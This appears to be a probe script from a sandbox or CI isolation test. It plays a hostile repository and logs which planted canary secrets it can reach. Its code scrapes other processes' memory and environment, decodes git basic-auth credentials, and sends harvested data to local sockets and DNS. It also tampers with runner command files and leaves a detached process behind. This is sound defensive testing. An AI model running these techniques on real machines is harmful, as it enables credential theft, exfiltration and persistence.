// A program of a hostile repository. It tries everything it can think of and writes one file into seen/: for each
// attack what it got. `places.json` says where the machine keeps what: a real attacker knows that as well.
import { execFileSync, spawn } from 'node:child_process';
import dgram from 'node:dgram';
import dns from 'node:dns/promises';
import fs from 'node:fs';
import net from 'node:net';
import { join } from 'node:path';

const CANARY = /canary-[a-z-]+-[0-9a-z]{6}/g;
const places = JSON.parse(fs.readFileSync('places.json', 'utf8'));
const door = process.argv[2];
const got = {};
const why = {};

/** `deed` gives what it found, or something that is true when it has done what it should not be able to do. */
async function attempt(name, deed) {
  try {
    const found = await deed();
    got[name] = typeof found === 'string' ? [...new Set(found.match(CANARY) ?? [])].sort() : found === true;
  } catch (error) {
    got[name] = false;
    why[name] = String(error.message).slice(0, 200);
  }
}

const pids = () => fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name));
const whatever = (read) => {
  try {
    return read();
  } catch {
    return '';
  }
};
const ofAll = (name) =>
  pids()
    .filter((pid) => pid !== String(process.pid))
    .map((pid) => whatever(() => fs.readFileSync(`/proc/${pid}/${name}`, 'latin1')))
    .join('\n');

function memoryOf(pid) {
  const found = [];
  const memory = fs.openSync(`/proc/${pid}/mem`, 'r');
  for (const [, from, to] of fs.readFileSync(`/proc/${pid}/maps`, 'utf8').matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm)) {
    const start = BigInt(`0x${from}`);
    const part = Buffer.alloc(Math.min(Number(BigInt(`0x${to}`) - start), 2 ** 24));
    const length = whatever(() => fs.readSync(memory, part, 0, part.length, start));
    found.push(part.subarray(0, Number(length)).toString('latin1'));
  }
  return found.join('\n');
}

/** Says over a connection who gets through, and what it brings along. */
function tell(options, name) {
  return new Promise((resolve, reject) => {
    const socket = net.connect(options);
    socket.setTimeout(2000, () => socket.destroy(new Error('no answer')));
    socket
      .once('error', reject)
      .once('connect', () => socket.end(`${name} ${JSON.stringify(got)}\n`, () => resolve(true)));
  });
}

await attempt('environment', () => JSON.stringify(process.env));
await attempt('environ', () => ofAll('environ'));
await attempt('cmdline', () => ofAll('cmdline'));
await attempt('memory', () => memoryOf(places.bystander));
await attempt('descriptor', () => fs.readFileSync(`/proc/${places.bystander}/fd/7`, 'utf8'));
for (const [name, path] of Object.entries(places.files))
  await attempt(`read ${name}`, () => fs.readFileSync(path, 'utf8'));
await attempt('read checkout', () => {
  const config = execFileSync('git', ['config', '--list'], { encoding: 'utf8' });
  return Buffer.from(/basic (\S+)/.exec(config)?.[1] ?? '', 'base64').toString();
});
await attempt('read runner folder', () =>
  execFileSync('grep', ['-rsha', 'canary-', places.temp], { encoding: 'latin1' }),
);

await attempt('signal', () => process.kill(places.bystander, 'SIGUSR1'));
await attempt('privileges', () => {
  const caps = (text) => /^CapEff:\t0*[1-9a-f]/m.test(text);
  if (caps(fs.readFileSync('/proc/self/status', 'utf8'))) return true;
  return caps(
    execFileSync('sudo', ['-n', 'cat', '/proc/self/status'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }),
  );
});
await attempt('tcp', () => tell({ host: '127.0.0.1', port: places.tcp }, `tcp-${door}`));
for (const [name, path] of Object.entries(places.sockets)) await attempt(name, () => tell({ path }, `${name}-${door}`));
await attempt('abstract socket', () => tell({ path: `\0${places.abstract}` }, `abstract-${door}`));
await attempt('udp', async () => {
  const socket = dgram.createSocket('udp4');
  await new Promise((resolve, reject) =>
    socket.send(`udp-${door}`, places.udp, '127.0.0.1', (error) => (error ? reject(error) : resolve())),
  );
  socket.close();
  return true;
});
await attempt('dns', async () => {
  const resolver = new dns.Resolver({ timeout: 150, tries: 1 });
  resolver.setServers([`127.0.0.1:${places.udp}`]);
  await resolver.resolve4(`dns-${door}.example.org`).catch(() => {});
});

for (const [name, path] of Object.entries(places.write))
  await attempt(`write ${name}`, () => {
    fs.appendFileSync(path, `\n${places.evil[name] ?? '# evil'}\n`);
    return true;
  });
await attempt('write command files', () => {
  const folder = join(places.temp, '_runner_file_commands');
  for (const name of fs.readdirSync(folder)) fs.appendFileSync(join(folder, name), 'EVIL=1\n');
  return true;
});
await attempt('stay', () => {
  fs.writeFileSync('keep-on', '');
  const waits = `while [ -e keep-on ]; do sleep 0.1; done # ${places.stay}`;
  spawn('setsid', ['env', '-i', 'PATH=/usr/bin:/bin', 'sh', '-c', waits], { detached: true, stdio: 'ignore' }).unref();
});
// A folder that git ignores and the set-up has made: what the tests write there stays.
fs.mkdirSync('seen', { recursive: true });
fs.writeFileSync(`seen/${door}-${process.pid}.json`, JSON.stringify({ door, got, why }));
